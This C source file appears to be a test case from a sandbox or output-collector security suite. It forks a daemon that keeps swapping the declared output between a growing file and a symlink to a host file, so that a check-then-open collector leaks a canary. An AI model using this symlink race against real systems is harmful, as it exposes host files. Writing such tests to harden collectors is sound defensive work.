/*
 * id: B1b
 * attack: swaps a declared output between a file and a link to a host's file, and lets it grow, as fast as it can, from a
 *   daemon that goes on while the outputs are collected
 * walls: none
 * control: a naive collector that checks first and then opens gives out the canary
 * effect: the canary's text among the collected bytes
 * verdict: AC
 */
#include "facts.h"

#include <fcntl.h>
#include <stdlib.h>

static void grow(const char *name) {
  int file = open(name, O_WRONLY | O_CREAT | O_APPEND | O_NOFOLLOW, 0644);
  if (file < 0) return;
  if (write(file, "harmless", 8) < 0) lseek(file, 0, SEEK_SET);
  close(file);
}

int main(int argc, char **argv) {
  if (argc < 2) return 1;
  attempt("symlink", symlink(argv[1], "link"));
  attempt("start", 0);
  int daemon_started = fork();
  if (daemon_started) return usleep(20000) ? 1 : 0;
  setsid();
  alarm(10);
  for (unsigned turn = 0;; turn++) {
    char spare[32];
    snprintf(spare, sizeof spare, "spare%u", turn % 2);
    unlink(spare);
    if (turn % 2) {
      if (symlink(argv[1], spare)) continue;
    } else {
      grow(spare);
    }
    if (rename(spare, "output")) continue;
  }
}
